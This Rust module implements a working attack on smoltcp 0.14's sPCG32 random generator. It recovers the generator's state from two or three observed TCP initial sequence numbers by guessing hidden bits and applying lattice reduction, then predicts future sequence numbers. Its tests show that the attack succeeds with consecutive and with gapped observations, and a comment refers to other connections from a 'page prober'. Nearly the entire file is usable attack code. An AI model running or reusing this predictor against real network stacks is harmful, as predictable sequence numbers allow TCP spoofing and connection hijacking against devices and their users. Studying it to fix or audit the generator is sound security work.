//! smoltcp's random generator, and how to recover its state from a few of
//! its outputs: what an attacker who sees two or three TCP initial sequence
//! numbers of a stack that draws them from it can do.
//!
//! # The generator
//!
//! smoltcp 0.14's `Rand` (`src/rand.rs`) is the "sPCG32" variant of PCG: a
//! 64-bit linear congruential state `s ← s·M + A (mod 2^64)`, and as output
//! 32 bits of the new state taken at an offset chosen by its top three bits:
//! `t = s >> 61`, output `= (s >> (29 − t)) as u32`. One call per TCP
//! initial sequence number (a SYN-ACK's, or a connect's SYN's).
//!
//! # The attack
//!
//! An output `o` reveals 32 bits of the state, at a position that depends
//! on `t`; guessing `t` (8 ways) also fixes the top 3 bits. What is left is
//! the `29 − t` bits below the window (`low`) and the `t` bits between the
//! window and the top (`mid`): 29 unknown bits in all. The next output,
//! `d` calls later, satisfies `s' = M_d·s + A_d` where `(M_d, A_d)` is the
//! `d`-fold step, and reveals 32 (+3 guessed) bits of `s'` the same way.
//!
//! Guessing `t`, `mid` for both states (8·8 guesses of `t`, 2^t·2^t' of
//! `mid`; 65,025 in all) leaves a linear relation between the two unknown
//! low parts `L < 2^(29−t)` and `L' < 2^(29−t')`:
//!
//! ```text
//! M_d·L − L' ≡ C  (mod 2^64),   C = K' − M_d·K − A_d
//! ```
//!
//! (`K`, `K'` the known and guessed bits). The pairs `(L, M_d·L + k·2^64)`
//! form a two-dimensional lattice, and we want its point in the small box
//! `[0, 2^(29−t)) × [C, C + 2^(29−t'))`. The box is tiny next to the
//! lattice's determinant (2^58 against 2^64 after weighting the axes), so
//! such a point is (nearly always) unique, and a reduced basis finds it by
//! rounding (Babai): the reduced basis comes from the continued fraction of
//! `M_d / 2^64` (the extended Euclidean algorithm) followed by Lagrange's
//! reduction. The whole search is a few hundred thousand 128-bit
//! operations, under a second even in a debug build — compared with 2^32
//! trials for brute force.
//!
//! Each guess that yields a point gives a candidate state; about one false
//! candidate survives per pair and per `d`, so a candidate is confirmed
//! only when it also produces the other observed outputs.

/// sPCG32's multiplier and increment (smoltcp 0.14, `src/rand.rs`).
pub(super) const M: u64 = 0xbb2e_fcec_3c39_611d;
pub(super) const A: u64 = 0x7590_ef39;

/// One call of the generator: the new state and the output.
pub(super) fn next(state: u64) -> (u64, u32) {
    let s = state.wrapping_mul(M).wrapping_add(A);
    (s, output(s))
}

/// The output drawn from a (new) state.
pub(super) fn output(s: u64) -> u32 {
    (s >> (29 - (s >> 61))) as u32
}

/// The `d`-fold step as `s ↦ m·s + a`.
fn jump(d: u32) -> (u64, u64) {
    let (mut m, mut a) = (1u64, 0u64);
    for _ in 0..d {
        m = m.wrapping_mul(M);
        a = a.wrapping_mul(M).wrapping_add(A);
    }
    (m, a)
}

/// Largest gap (in generator calls) tried between two observed outputs:
/// other connections (the page prober's) draw between the attacker's.
pub(super) const MAX_GAP: u32 = 4;

/// How far ahead of a recovered state later observations are looked for.
const LOOKAHEAD: usize = 64;

/// A state recovered from observed outputs and confirmed by the others.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Recovered {
    /// The generator's state after the last observed output it produced.
    pub(super) state: u64,
    /// How many of the observed outputs (the last ones) this state's
    /// sequence produced.
    pub(super) explained: usize,
}

impl Recovered {
    /// The next `n` outputs the generator will draw.
    pub(super) fn predict(&self, n: usize) -> Vec<u32> {
        let mut s = self.state;
        (0..n)
            .map(|_| {
                let (next_state, out) = next(s);
                s = next_state;
                out
            })
            .collect()
    }
}

/// Recovers the generator's state from `observed` outputs, in the order
/// they were drawn, with gaps of up to [`MAX_GAP`] calls between neighbours
/// (an output the attacker did not see). Needs at least three: two to solve
/// for the state, one or more to confirm it (all later ones must appear
/// within [`LOOKAHEAD`] calls).
pub(super) fn recover(observed: &[u32]) -> Option<Recovered> {
    if observed.len() < 3 {
        return None;
    }
    for i in 0..observed.len() - 2 {
        for d in 1..=MAX_GAP {
            for state in solve_pair(observed[i], observed[i + 1], d) {
                if let Some(mut found) = confirm(state, &observed[i + 1..]) {
                    found.explained += 1; // observed[i], solved for
                    return Some(found);
                }
            }
        }
    }
    None
}

/// Follows `state` (which produced `observed[0]`) forward: every later
/// observation must come up, in order, within the lookahead.
fn confirm(state: u64, observed: &[u32]) -> Option<Recovered> {
    let mut s = state;
    let mut drawn = 0;
    for &wanted in &observed[1..] {
        loop {
            if drawn == LOOKAHEAD {
                return None;
            }
            let (next_state, out) = next(s);
            s = next_state;
            drawn += 1;
            if out == wanted {
                break;
            }
        }
    }
    Some(Recovered {
        state: s,
        explained: observed.len(),
    })
}

/// Every state `s'` (the state that produced `second`) such that some `s`
/// produced `first` and `s' = M_d·s + A_d`.
pub(super) fn solve_pair(first: u32, second: u32, d: u32) -> Vec<u64> {
    let (m, a) = jump(d);
    let mut states = Vec::new();
    for t1 in 0..8u32 {
        let shift1 = 29 - t1;
        for t2 in 0..8u32 {
            let shift2 = 29 - t2;
            let Some(basis) = Basis::reduced(m, t1, t2) else {
                continue;
            };
            for mid1 in 0..1u64 << t1 {
                let known1 =
                    u64::from(t1) << 61 | mid1 << (shift1 + 32) | u64::from(first) << shift1;
                for mid2 in 0..1u64 << t2 {
                    let known2 =
                        u64::from(t2) << 61 | mid2 << (shift2 + 32) | u64::from(second) << shift2;
                    let c = known2.wrapping_sub(m.wrapping_mul(known1)).wrapping_sub(a);
                    for low in basis.points_in_box(c) {
                        let s1 = known1 | low;
                        let s2 = m.wrapping_mul(s1).wrapping_add(a);
                        if output(s1) == first && output(s2) == second {
                            states.push(s2);
                        }
                    }
                }
            }
        }
    }
    states.sort_unstable();
    states.dedup();
    states
}

/// A Lagrange-reduced basis of the lattice `{(x, y) : y ≡ m·x (mod 2^64)}`
/// with `x` weighted by `2^t1` and `y` by `2^t2`, so that the box of
/// unknowns (`x < 2^(29−t1)`, `y − C < 2^(29−t2)`) is a square of side
/// 2^29 in weighted coordinates.
struct Basis {
    b1: (i128, i128),
    b2: (i128, i128),
    t1: u32,
    t2: u32,
    /// How many neighbours of Babai's point to try on each axis.
    radius: i128,
}

impl Basis {
    fn reduced(m: u64, t1: u32, t2: u32) -> Option<Basis> {
        let (w1, w2) = (1i128 << t1, 1i128 << t2);
        // The extended Euclidean algorithm on (2^64, m): each (t_i, r_i)
        // has r_i ≡ t_i·m (mod 2^64), and neighbours form a basis. Stop at
        // the first vector whose weighted y is no longer the larger.
        let (mut prev, mut cur) = ((0i128, 1i128 << 64), (1i128, i128::from(m)));
        while w2 * cur.1 > w1 * cur.0.abs() && cur.1 > 0 {
            let q = prev.1 / cur.1;
            let next = (prev.0 - q * cur.0, prev.1 - q * cur.1);
            prev = cur;
            cur = next;
        }
        let weigh = |v: (i128, i128)| (v.0 * w1, v.1 * w2);
        let (mut b1, mut b2) = (weigh(prev), weigh(cur));
        // Lagrange (Gauss) reduction, in checked arithmetic.
        let dot = |u: (i128, i128), v: (i128, i128)| -> Option<i128> {
            u.0.checked_mul(v.0)?.checked_add(u.1.checked_mul(v.1)?)
        };
        loop {
            if dot(b1, b1)? > dot(b2, b2)? {
                core::mem::swap(&mut b1, &mut b2);
            }
            let mu = round_div(dot(b1, b2)?, dot(b1, b1)?);
            if mu == 0 {
                break;
            }
            b2 = (b2.0 - mu * b1.0, b2.1 - mu * b1.1);
        }
        // Points within the box's half-diagonal (2^28.5) of its centre
        // differ from Babai's by at most this many steps of each vector.
        let shortest = (dot(b1, b1)? as f64).sqrt();
        let radius = 1 + ((1u64 << 29) as f64 / (0.86 * shortest)).ceil() as i128;
        Some(Basis {
            b1,
            b2,
            t1,
            t2,
            radius: radius.min(64),
        })
    }

    /// Every `x` with `(x, C + y')` on the lattice, `x < 2^(29−t1)` and
    /// `y' < 2^(29−t2)`.
    fn points_in_box(&self, c: u64) -> Vec<u64> {
        let (w1, w2) = (1i128 << self.t1, 1i128 << self.t2);
        let (x_end, y_len) = (1i128 << (29 - self.t1), 1i128 << (29 - self.t2));
        let c = i128::from(c);
        // The box's centre, weighted: (2^28, w2·C + 2^28).
        let target = (1i128 << 28, w2 * c + (1i128 << 28));
        let (b1, b2) = (self.b1, self.b2);
        let det = b1.0 * b2.1 - b1.1 * b2.0;
        let k1 = round_div(target.0 * b2.1 - target.1 * b2.0, det);
        let k2 = round_div(b1.0 * target.1 - b1.1 * target.0, det);
        let mut found = Vec::new();
        for i in -self.radius..=self.radius {
            for j in -self.radius..=self.radius {
                let (a, b) = (k1 + i, k2 + j);
                let x = (a * b1.0 + b * b2.0) / w1;
                let y = (a * b1.1 + b * b2.1) / w2;
                if (0..x_end).contains(&x) && (c..c + y_len).contains(&y) {
                    found.push(x as u64);
                }
            }
        }
        found
    }
}

/// `n / d` rounded to the nearest integer.
fn round_div(n: i128, d: i128) -> i128 {
    let (n, d) = if d < 0 { (-n, -d) } else { (n, d) };
    (2 * n + d).div_euclid(2 * d)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A test-only seed stream (splitmix64), independent of the generator.
    fn seeds(mut x: u64) -> impl Iterator<Item = u64> {
        core::iter::from_fn(move || {
            x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = x;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            Some(z ^ (z >> 31))
        })
    }

    #[test]
    fn the_generator_matches_smoltcp() {
        // smoltcp's Rand::new(0).rand_u32() twice, worked by hand:
        // s1 = A, s2 = A·M + A.
        let (s1, o1) = next(0);
        assert_eq!(s1, A);
        assert_eq!(o1, (A >> 29) as u32);
        let (s2, _) = next(s1);
        assert_eq!(s2, A.wrapping_mul(M).wrapping_add(A));
    }

    #[test]
    fn every_reduced_basis_exists() {
        for d in 1..=MAX_GAP {
            let (m, _) = jump(d);
            for t1 in 0..8 {
                for t2 in 0..8 {
                    let basis = Basis::reduced(m, t1, t2).expect("reduction fits in i128");
                    assert!(basis.radius <= 4, "d={d} t={t1},{t2}: {}", basis.radius);
                }
            }
        }
    }

    #[test]
    fn consecutive_outputs_give_the_state_away() {
        for seed in seeds(1).take(40) {
            let mut s = seed;
            let outputs: Vec<u32> = (0..5)
                .map(|_| {
                    let (n, o) = next(s);
                    s = n;
                    o
                })
                .collect();
            let found = recover(&outputs[..4]).expect("state recovered");
            assert_eq!(found.explained, 4);
            assert_eq!(found.predict(1), vec![outputs[4]], "seed {seed:#x}");
        }
    }

    #[test]
    fn outputs_with_gaps_give_the_state_away() {
        for (n, seed) in seeds(2).take(20).enumerate() {
            let mut s = seed;
            let mut all = Vec::new();
            for _ in 0..40 {
                let (next_state, o) = next(s);
                s = next_state;
                all.push(o);
            }
            // The attacker sees draws 0, 2, 3, 7, 9 (others went to other
            // connections) and must predict draw 10.
            let seen: Vec<u32> = [0, 2, 3, 7, 9].iter().map(|&i| all[i]).collect();
            let found = recover(&seen).unwrap_or_else(|| panic!("case {n}: not recovered"));
            assert_eq!(found.predict(1)[0], all[10], "case {n}");
        }
    }

    #[test]
    fn unrelated_numbers_give_nothing() {
        let outputs: Vec<u32> = seeds(3).take(6).map(|x| x as u32).collect();
        assert_eq!(recover(&outputs), None);
    }
}
